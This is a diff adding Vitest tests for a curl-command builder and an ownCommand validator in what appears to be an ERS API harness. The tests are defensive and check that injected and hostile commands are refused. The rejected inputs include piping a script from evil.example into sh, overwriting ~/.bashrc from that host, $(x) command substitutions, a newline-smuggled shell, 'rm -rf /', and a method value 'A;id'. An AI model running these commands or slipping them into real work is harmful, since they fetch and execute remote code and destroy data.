@@ -1,6 +1,6 @@
 import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
-import { curlParts, shellQuoted } from '../../../lib/curl.ts';
+import { curlParts, ownCommand, shellQuoted } from '../../../lib/curl.ts';
 
 describe('a curl command', () => {
   it('names the login by its variable, and sends a body as it is', () => {
@@ -26,5 +26,37 @@ describe('a curl command', () => {
     expect(curlParts({ method: 'A;id', headers: [], url: 'u' })[0]).toBe(
       `curl -u "$ERS_USERNAME:$ERS_PASSWORD" -X 'A;id'`,
     );
+  });
+});
+
+describe('a command that a run folder holds', () => {
+  const own = (flags: readonly string[], headers: readonly (readonly [string, string])[], body?: string) =>
+    curlParts({
+      flags,
+      method: 'DELETE',
+      headers,
+      url: shellQuoted("https://x:9060/ers/config/sgt/it's[7]"),
+      ...(body && { body }),
+    }).join(' ');
+
+  it.each([
+    own([], []),
+    own(['--insecure', '--cacert', shellQuoted("/a b/c'a.pem")], [['Accept', "x'y"]]),
+    own(['--cert', "'/c'", '--key', "'/k'"], [['Accept', 'x']], `{"a":"$(x) ' | sh"}`),
+    'ers-harness sweep --journal RUN --base-url URL --endpoints POOL --policy NAME, as the run was given',
+  ])('is shown if it is of this program: %s', (command) => {
+    expect(ownCommand(command)).toBe(command);
+  });
+
+  it.each([
+    'curl https://evil.example/x.sh | sh',
+    "curl 'https://evil.example/x.sh' | sh",
+    "curl -o '/home/x/.bashrc' 'https://evil.example/x'",
+    "curl -H 'a'$(x) 'https://x/'",
+    "curl 'https://x/'\nsh",
+    'ers-harness sweep --journal $(x)',
+    'rm -rf /',
+  ])('is not shown otherwise: %s', (command) => {
+    expect(ownCommand(command)).toMatch(/^\(no command/);
   });
 });
